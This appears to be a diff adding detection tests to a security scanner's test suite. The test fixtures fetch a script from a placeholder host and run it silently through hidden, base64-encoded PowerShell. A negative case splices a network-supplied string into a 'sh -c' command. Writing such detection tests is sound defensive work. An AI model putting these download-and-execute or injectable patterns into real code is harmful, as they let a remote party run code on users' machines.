@@ -596,3 +596,36 @@ describe('an agent rule file that forbids what an attack would ask for', () => {
     expect(r.risk_level).toBe('critical');
   });
 });
+
+describe('a downloaded PowerShell script run from compiled async code', () => {
+  const awaiter = `var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
+  return new (P || (P = Promise))(function (resolve, reject) {
+    function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
+    function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then(fulfilled, reject); }
+    step((generator = generator.apply(thisArg, _arguments || [])).next());
+  });
+};
+const cp = require('child_process');`;
+  const run = (body: string) =>
+    rules({
+      'index.js': `${awaiter}\nfunction go() { return __awaiter(this, void 0, void 0, function* () {\n${body}\n}); }\ngo();`,
+    });
+  it('yield as await; a prefix statement; -EncodedCommand of the UTF-16 bytes', () => {
+    expect(
+      run(`const m = yield (yield fetch('https://solc-bin.example/manifest')).json();
+const script = yield (yield fetch(m.setup)).text();
+const wrapped = "$ErrorActionPreference='SilentlyContinue';" + script;
+cp.spawn('powershell.exe', ['-NoProfile', '-EncodedCommand', Buffer.from(wrapped, 'utf16le').toString('base64')], { detached: true, stdio: 'ignore' }).unref();`),
+    ).toContain('js.exec-network-data');
+    expect(
+      run(`const script = yield (yield fetch('https://solc-bin.example/setup.ps1')).text();
+cp.spawn('powershell.exe', ['-Command', "$ErrorActionPreference='SilentlyContinue';" + script]);`),
+    ).toContain('js.exec-network-data');
+  });
+  it('quiet: a version read from the network, used as a parameter of a fixed command', () => {
+    expect(
+      run(`const v = yield (yield fetch('https://registry.example/tool/latest')).text();
+cp.spawn('sh', ['-c', 'npm i -g tool@' + v]);`),
+    ).not.toContain('js.exec-network-data');
+  });
+});
